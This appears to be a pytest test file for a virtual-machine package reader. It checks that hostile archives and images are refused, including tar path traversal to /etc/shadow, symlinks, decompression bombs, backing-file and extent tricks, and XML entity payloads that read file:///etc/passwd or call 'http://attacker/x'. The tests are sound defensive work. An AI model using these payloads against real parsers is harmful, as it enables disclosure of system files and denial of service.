"""Hostile and broken files: each refused in one sentence that names the member and the byte; nothing outside the package is ever opened."""

from __future__ import annotations

import gzip
import io
import lzma
import os
import re
import resource
import struct
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from console.formats import tar
from console.formats.blocks import Bytes, ForwardBytes
from console.formats.broken import BadFile, Where
from console.formats.compressed import compression_of, decompress
from console.formats.detect import detect
from console.formats.domain import read_domain
from console.formats.export import write_ova, write_ovf_folder
from console.formats.images import inspect, vhd_checksum
from console.formats.opening import open_package, open_stream
from console.formats.ovf import read_ovf
from console.formats.vmdk import vmdk_chunks
from console.formats.vmdk_write import write_vmdk
from console.formats.xmlrpc import loads
from console.formats.xva import read_ova_xml
from console.model.errors import ConsoleError
from tests.fixtures.packages import MIB, bytes_of, chunks_of, content, gathered, plan, read, synthetic_xva, vm

SENTENCE = re.compile(r"[^\n]+ can't be used: [^\n]+\.")


def memory(data: bytes) -> Bytes:
    return ForwardBytes(io.BytesIO(data), Where("x"), len(data))


def archive(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as target:
        for info, data in members:
            info.size = len(data)
            target.addfile(info, io.BytesIO(data))
    return out.getvalue()


def info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    found = tarfile.TarInfo(name)
    found.type, found.linkname = kind, link
    return found


def refused(act: Callable[[], object]) -> str:
    with pytest.raises(BadFile) as caught:
        act()
    text = str(caught.value)
    assert SENTENCE.fullmatch(text), text
    return text


def members(data: bytes, limit: int = 1000) -> list[tar.Member]:
    return list(tar.TarReader(memory(data), limit=limit).members())


# --------------------------------------------------------------------------- tar


@pytest.mark.parametrize(
    ("member", "words"),
    [
        (info("../../etc/cron.d/x"), "leads out of the package"),
        (info("a/../../b"), "leads out of the package"),
        (info("..\\..\\windows\\x"), "leads out of the package"),
        (info("/etc/shadow"), "absolute path"),
        (info("C:/windows/x"), "absolute path"),
        (info("disk.vmdk", tarfile.SYMTYPE, "/etc/shadow"), "symbolic link"),
        (info("disk.vmdk", tarfile.LNKTYPE, "x.ovf"), "hard link"),
        (info("disk.vmdk", tarfile.CHRTYPE), "character device"),
        (info("disk.vmdk", tarfile.BLKTYPE), "block device"),
        (info("disk.vmdk", tarfile.FIFOTYPE), "FIFO"),
        (info("disk.vmdk", tarfile.GNUTYPE_SPARSE), "sparse member"),
        (info("a//b"), "not a file's name"),
        (info("a\x1b[31mb"), "control characters"),
        (info("x.ovf"), "two members of this name"),
        (info("X.OVF"), "two members of this name"),
        (info("disk.vmdk", b"Q"), "unknown kind"),
    ],
)
def test_members(member: tarfile.TarInfo, words: str) -> None:
    data = archive((info("x.ovf"), b"<x/>"), (member, b""))
    text = refused(lambda: members(data))
    assert words in text
    assert "byte 1024" in text  # where its header begins
    assert "\x1b" not in text


def test_names_that_are_not_utf8() -> None:
    data = archive((info("name"), b""))
    raw = bytearray(data)
    raw[0:4] = b"\xff\xfe\xff\xfe"
    raw[148:156] = b"%06o\0 " % sum(raw[:148] + b" " * 8 + raw[156:512])
    text = refused(lambda: members(bytes(raw)))
    assert "not UTF-8" in text
    assert "byte 0" in text


def test_sizes_that_lie() -> None:
    lies = {
        b"77777777777\0": "archive ends before", b"-0000000001\0": "not a possible number", b"\xff" * 12: "not a possible number",
        b"\x80" + b"\xff" * 11: "not a possible number", b"garbage-----": "not a possible number",
    }  # fmt: skip
    for field, words in lies.items():
        raw = bytearray(archive((info("x.ovf"), b"<x/>")))
        raw[124:136] = field
        raw[148:156] = b"%06o\0 " % sum(raw[:148] + b" " * 8 + raw[156:512])
        assert words in refused(lambda raw=raw: members(bytes(raw)))  # type: ignore[misc]


def test_a_million_members_are_refused_early() -> None:
    one = tar.header("a", 0)

    class Endless(io.RawIOBase):
        """Empty members without an end, each with its own name."""

        count = 0

        def read(self, size: int = -1) -> bytes:
            self.count += 1
            return tar.header(f"n{self.count}", 0)

    text = refused(lambda: list(tar.TarReader(ForwardBytes(Endless(), Where("x")), limit=100_000 // 10).members()))
    assert "more than 10000 members" in text
    assert len(one) == 512


def test_long_names_and_pax_are_read_and_bounded() -> None:
    name = "d/" * 60 + "disk.vmdk"
    for form in (tarfile.GNU_FORMAT, tarfile.PAX_FORMAT):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=form) as target:
            member = info(name + ("é" if form == tarfile.PAX_FORMAT else ""))
            member.size = 3
            target.addfile(member, io.BytesIO(b"abc"))
        (found,) = members(out.getvalue())
        assert found.name == member.name
        assert found.size == 3
    huge = bytearray(tar.header("x", 1 << 30))
    huge[156:157] = b"x"
    huge[148:156] = b"%06o\0 " % sum(huge[:148] + b" " * 8 + huge[156:512])
    assert "impossible size" in refused(lambda: members(bytes(huge)))


def test_large_members_have_sizes_that_tar_reads() -> None:
    data = tar.header("big", 9 << 30)
    assert tarfile.TarInfo.frombuf(data, "utf-8", "strict").size == 9 << 30
    assert tar.TarReader(ForwardBytes(io.BytesIO(data), Where("x")), limit=9).members().__next__().size == 9 << 30


@pytest.mark.parametrize("where", range(0, 100, 7))
def test_truncated_anywhere(tmp_path: Path, where: int) -> None:
    """Never a success, never anything but a sentence."""
    path = tmp_path / "x.ova"
    data = content(2, 3 * MIB)
    with path.open("w+b") as out:
        write_ova(plan(vm([len(data)]), [data]), out)
    # The last 1024 bytes and more are the end mark and its padding.
    whole = path.read_bytes().rstrip(b"\0")
    for cut, opened in ((whole[: len(whole) * where // 100], open_stream), (synthetic_xva({"Ref:1": data})[: 3 * MIB * where // 100], open_stream)):

        def act(cut: bytes = cut) -> None:
            package = open_stream(io.BytesIO(cut), "x")
            for disk in package.order:
                read(package.open(disk))
            package.finish()

        refused(act)
        assert opened is open_stream


# --------------------------------------------------------------------------- digests


def test_a_changed_disk_is_refused_when_it_has_been_read(tmp_path: Path) -> None:
    data = content(2, 3 * MIB)
    path = tmp_path / "x.ova"
    with path.open("w+b") as out:
        written = write_ova(plan(vm([len(data)]), [data], disk_format="raw"), out)
    raw = bytearray(path.read_bytes())
    place = raw.index(data[:4096]) if any(data[:4096]) else len(raw) - 200_000
    raw[place + 100] ^= 1
    path.write_bytes(raw)
    with open_package(path) as package:
        text = refused(lambda: read(package.open(package.description.disks[0])))
        assert "web-disk1.img" in text
        found = package.verify()
        assert not found.ok
        assert [check.name for check in found.files if check.ok is False] == ["web-disk1.img"]
    assert written


def test_a_changed_descriptor_and_files_that_nobody_lists(tmp_path: Path) -> None:
    data = content(2, MIB)
    write_ovf_folder(plan(vm([len(data)]), [data]), lambda name: (tmp_path / name).open("x+b"))
    descriptor, manifest = tmp_path / "web.ovf", tmp_path / "web.mf"
    good = descriptor.read_text()
    descriptor.write_text(good.replace("web 01", "bad 01"))
    with open_package(descriptor) as package:
        assert "changed" in refused(lambda: package.open(package.description.disks[0]))
        assert not package.verify().ok
    descriptor.write_text(good)
    manifest.write_text("".join(line for line in manifest.read_text().splitlines(keepends=True) if "vmdk" not in line))
    with open_package(descriptor) as package:
        assert [check.name for check in package.verify().files if check.ok is False] == ["web-disk1.vmdk"]
    manifest.write_text("nonsense")
    assert "line of the manifest" in refused(lambda: open_package(descriptor))


def test_links_in_a_folder_are_not_followed(tmp_path: Path) -> None:
    data = content(2, MIB)
    folder = tmp_path / "package"
    folder.mkdir()
    write_ovf_folder(plan(vm([len(data)]), [data], manifest=""), lambda name: (folder / name).open("x+b"))
    secret = tmp_path / "secret.vmdk"
    (folder / "web-disk1.vmdk").rename(secret)
    (folder / "web-disk1.vmdk").symlink_to(secret)
    with open_package(folder / "web.ovf") as package:
        assert "link" in refused(lambda: package.open(package.description.disks[0]))
    (folder / "web-disk1.vmdk").unlink()
    os.mkfifo(folder / "web-disk1.vmdk")
    with open_package(folder / "web.ovf") as package:
        assert "not a file" in refused(lambda: package.open(package.description.disks[0]))


# --------------------------------------------------------------------------- bombs


@pytest.mark.parametrize("kind", ["gzip", "xz", "zstd", "gzip of gzip"])
def test_bombs_cost_no_memory(kind: str) -> None:
    """A lot of zeros in little: read through, and refused at a limit, without the memory to hold it."""
    size = 160 * MIB
    command = {"gzip": "gzip -1", "xz": "xz -0 -T1", "zstd": "zstd -1", "gzip of gzip": "gzip -1"}[kind]
    packed = subprocess.run(f"head -c {size} /dev/zero | {command}", shell=True, check=True, capture_output=True).stdout
    magic = compression_of(packed)
    assert magic is not None
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    text = refused(lambda: decompress(memory(packed), magic, limit=50 * MIB).read_at(100 * MIB, 1))
    assert "becomes larger" in text
    source = decompress(memory(packed), magic)
    assert source.read_at(size - 1, 10) == b"\0"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 60_000  # KiB


def test_damaged_compression() -> None:
    data = os.urandom(300_000)
    for packed in (gzip.compress(data), lzma.compress(data), subprocess.run(["zstd", "-c"], input=data, check=True, capture_output=True).stdout):
        magic = compression_of(packed)
        assert magic is not None
        assert decompress(memory(packed + packed), magic).read_at(0, 1 << 20) == data + data  # several streams are one
        for broken in (packed[:-5], packed[: len(packed) // 2], packed[:100] + b"\xff" * 50 + packed[150:]):
            if magic == b"\x28\xb5\x2f\xfd" and len(broken) == len(packed):
                continue  # incompressible blocks of zstd carry no checksum
            refused(lambda broken=broken, magic=magic: decompress(memory(broken), magic).read_at(0, 1 << 20))  # type: ignore[misc]


def test_an_xml_of_gigabytes_is_not_read() -> None:
    data = tar.header("x.ovf", 1 << 33) + b"<" * 100_000
    assert "bytes" in refused(lambda: open_stream(io.BytesIO(data), "x.ova"))
    assert "not accepted" in refused(lambda: open_stream(io.BytesIO(tar.header("ova.xml", 1 << 33) + b"<" * 100_000), "x.xva"))


# --------------------------------------------------------------------------- images that want other files


def qemu_image(path: Path, *words: str | Path) -> Bytes:
    subprocess.run(["qemu-img", "create", "-q", *words, path, "1M"] if "-b" not in words else ["qemu-img", "create", "-q", *words, path], check=True)
    return bytes_of(path)


@pytest.mark.parametrize("form", ["qcow2", "qcow", "vmdk"])
def test_backing_files_are_never_followed(tmp_path: Path, form: str) -> None:
    base = tmp_path / "base"
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"root:x:0:0\n" * 100_000)
    subprocess.run(["qemu-img", "create", "-q", "-f", form, base, "1M"], check=True)
    found = inspect(qemu_image(tmp_path / "x", "-f", form, "-b", base, "-F", form))
    assert found.backing
    assert "never opened" in str(found.refusal())
    assert "never opened" in refused(lambda: open_package(tmp_path / "x"))


def test_external_data_file_and_encryption(tmp_path: Path) -> None:
    found = inspect(qemu_image(tmp_path / "x.qcow2", "-f", "qcow2", "-o", f"data_file={tmp_path / 'outside'},data_file_raw=on"))
    assert found.data_file.endswith("outside")
    assert "never opened" in refused(lambda: open_package(tmp_path / "x.qcow2"))
    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2", tmp_path / "e", "1M"], check=True)
    plain = bytearray((tmp_path / "e").read_bytes())
    struct.pack_into(">I", plain, 32, 2)  # LUKS
    (tmp_path / "e").write_bytes(plain)
    assert "encrypted" in refused(lambda: open_package(tmp_path / "e"))


@pytest.mark.parametrize("name", ["/etc/shadow", "../x-flat.vmdk", "passwd", "y-flat.vmdk", "x-flat.txt", ""])
def test_extents_that_are_not_its_own(tmp_path: Path, name: str) -> None:
    path = tmp_path / "x.vmdk"
    path.write_text(f'# Disk DescriptorFile\nversion=1\nCID=1\nparentCID=ffffffff\ncreateType="monolithicFlat"\nRW 8 FLAT "{name}" 0\n')
    for file in ("passwd", "y-flat.vmdk", "x-flat.txt"):
        (tmp_path / file).write_bytes(bytes(4096))
    with open_package(path) as package:
        assert "never opened" in refused(lambda: read(package.open(package.description.disks[0])))


def test_other_formats_headers(tmp_path: Path) -> None:
    for form, name in (("vhdx", "vhdx"), ("vdi", "vdi"), ("qcow2", "qcow2"), ("qcow", "qcow"), ("vmdk", "vmdk"), ("vpc", "vpc")):
        found = inspect(qemu_image(tmp_path / f"x.{form}", "-f", form, *(["-o", "force_size=on"] if form == "vpc" else [])))
        assert (found.format, found.capacity_bytes, found.refusal()) == (name, MIB, None)


@pytest.mark.parametrize("place", ["ova", "gzip", "folder", "xz"])
@pytest.mark.parametrize("form", ["qcow2", "vmdk", "flat"])
def test_names_inside_of_what_is_inside(tmp_path: Path, form: str, place: str) -> None:
    """An image in a package or packed that names a file of this computer: refused as if it lay there by itself, and never opened."""
    secret, evil = tmp_path / "secret.txt", tmp_path / "web-disk1.img"
    secret.write_bytes(b"root:x:0:0\n" * 100_000)
    if form == "flat":
        evil.write_text(f'# Disk DescriptorFile\nversion=1\nCID=1\nparentCID=ffffffff\ncreateType="monolithicFlat"\nRW 2048 FLAT "{secret}" 0\n')
    else:
        base = tmp_path / "base"
        subprocess.run(["qemu-img", "create", "-q", "-f", form, base, "1M"], check=True)
        qemu_image(evil, "-f", form, "-b", base, "-F", form)
    data, machine = evil.read_bytes(), vm([MIB])
    package = tmp_path / "package"
    package.mkdir()
    if place in ("gzip", "xz"):
        target = package / "disk.gz"
        target.write_bytes((gzip if place == "gzip" else lzma).compress(data))
    else:
        files = {"web-disk1.img": data}
        write_ovf_folder(plan(machine, [bytes(MIB)], disk_format="raw", manifest=""), lambda name: (package / name).open("x+b"))
        target = package / "web.ovf"
        text = re.sub('ovf:size="[0-9]+"', f'ovf:size="{len(data)}"', target.read_text())
        target.write_text(text)
        for name, each in files.items():
            (package / name).write_bytes(each)
        if place == "ova":
            target = tmp_path / "web.ova"
            target.write_bytes(archive((info("web.ovf"), text.encode()), *((info(name), each) for name, each in files.items())))

    def act() -> None:
        with open_package(target) as opened:
            read(opened.open(opened.description.disks[0]))

    text = refused(act)
    assert "never opened" in text or "it is not there" in text or "can be used by itself" in text, text


@pytest.mark.parametrize("read_it", [read_ovf, read_ova_xml, read_domain, loads])
def test_entities_of_every_description(read_it: Callable[[bytes, Where], object]) -> None:
    """Bombs and files of this computer in any XML that is read: no document type is accepted."""
    for begin in (
        b'<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>', b'<!DOCTYPE a SYSTEM "file:///etc/passwd">',
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker/x"> %x;]>',
    ):  # fmt: skip
        for body in (b"<value>&c;</value>", b"<domain><name>&c;</name></domain>", b"<Envelope/>"):
            assert "document type" in refused(lambda begin=begin, body=body: read_it(begin + body, Where("x")))  # type: ignore[misc]


# --------------------------------------------------------------------------- VMDK and VHD that lie


def stream_vmdk() -> bytearray:
    data = content(9, 2 * MIB, 30)
    out = io.BytesIO()
    write_vmdk(chunks_of(data), len(data), out)
    return bytearray(out.getvalue())


def test_vmdk_streams_that_lie() -> None:
    good = stream_vmdk()
    first = 128 * 512

    def act(data: bytes) -> str:
        return refused(lambda: gathered(vmdk_chunks(memory(data))))

    twice = bytes(good)
    lba, size = struct.unpack_from("<QI", good, first)
    record = -(-(12 + size) // 512) * 512
    assert "same place" in act(twice[: first + record] + twice[first : first + record] + twice[first + record :])
    assert f"byte {first}" in act(twice[:first] + struct.pack("<QI", 1 << 50, size) + twice[first + 12 :])
    assert "impossible size" in act(twice[:first] + struct.pack("<QI", lba, 0xFFFFFFFF) + twice[first + 12 :])
    assert "damaged" in act(twice[: first + 12] + b"\xff" * size + twice[first + 12 + size :])
    assert "no marker" in act(twice[:first] + struct.pack("<QII", 1, 0, 77) + twice[first + 16 :])
    assert "missing" in act(twice[: first + record])
    assert "can't be" in act(twice[:12] + struct.pack("<Q", 1 << 62) + twice[20:])
    assert "grain size" in act(twice[:20] + struct.pack("<Q", 1 << 40) + twice[28:])
    parent = twice.replace(b"parentCID=ffffffff", b"parentCID=12345678")
    assert "never opened" in act(parent)


def test_sparse_vmdk_with_overlapping_grains(tmp_path: Path) -> None:
    raw, path = tmp_path / "raw", tmp_path / "x.vmdk"
    raw.write_bytes(os.urandom(MIB))
    subprocess.run(["qemu-img", "convert", "-f", "raw", "-O", "vmdk", raw, path], check=True)
    data = bytearray(path.read_bytes())
    directory = struct.unpack_from("<Q", data, 56)[0] * 512
    table = struct.unpack_from("<I", data, directory)[0] * 512
    for value, words in ((struct.unpack_from("<I", data, table)[0], "share one grain"), (5, "none can be"), (0xFFFFFFF0, "none can be")):
        changed = bytearray(data)
        struct.pack_into("<I", changed, table + 12, value)
        path.write_bytes(changed)
        text = refused(lambda: gathered(vmdk_chunks(bytes_of(path))))
        assert words in text
        assert f"byte {table + 12}" in text


def test_vhd_that_lies(tmp_path: Path) -> None:
    raw, path = tmp_path / "raw", tmp_path / "x.vhd"
    raw.write_bytes(os.urandom(5 * MIB))
    subprocess.run(["qemu-img", "convert", "-f", "raw", "-O", "vpc", "-o", "force_size=on", raw, path], check=True)
    good = path.read_bytes()
    table = struct.unpack_from(">Q", good, 512 + 16)[0]

    def act(data: bytes) -> str:
        path.write_bytes(data)

        def opened() -> None:
            with open_package(path) as package:
                read(package.open(package.description.disks[0]))

        return refused(opened)

    assert "share one block" in act(good[: table + 4] + good[table : table + 4] + good[table + 8 :])
    assert "none can be" in act(good[:table] + struct.pack(">I", 0x7FFFFFFF) + good[table + 4 :])
    assert "checksum" in act(good[:48] + b"\xff" * 8 + good[56:])
    huge = bytearray(good)
    struct.pack_into(">Q", huge, 48, 1 << 61)
    struct.pack_into(">I", huge, 64, vhd_checksum(bytes(huge[:512]), 64))
    assert "can't be" in act(bytes(huge))


# --------------------------------------------------------------------------- detection


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"%PDF-1.4" + bytes(504), "no package"),
        (b"<html></html>", "neither an OVF"),
        (b"hello", "no package"),
        (gzip.compress(b""), "nothing in the compressed"),
        (archive((info("readme.txt"), b"x")), "without a description"),
        (b'<appliance version="0.1"/>', "first version"),
    ],
)
def test_what_is_nothing(tmp_path: Path, data: bytes, words: str) -> None:
    path = tmp_path / "disk.ova"  # the name says nothing
    path.write_bytes(data)
    assert words in refused(lambda: open_package(path))
    with pytest.raises(ConsoleError, match="not a file"):
        open_package(Path("/dev/zero"))
    with pytest.raises(ConsoleError, match="can't be opened"):
        open_package(tmp_path / "none")


def test_names_say_nothing(tmp_path: Path) -> None:
    path = tmp_path / "picture.png"
    path.write_bytes(synthetic_xva({"Ref:1": bytes(MIB)}))
    assert detect(bytes_of(path)).kind.value == "xva"
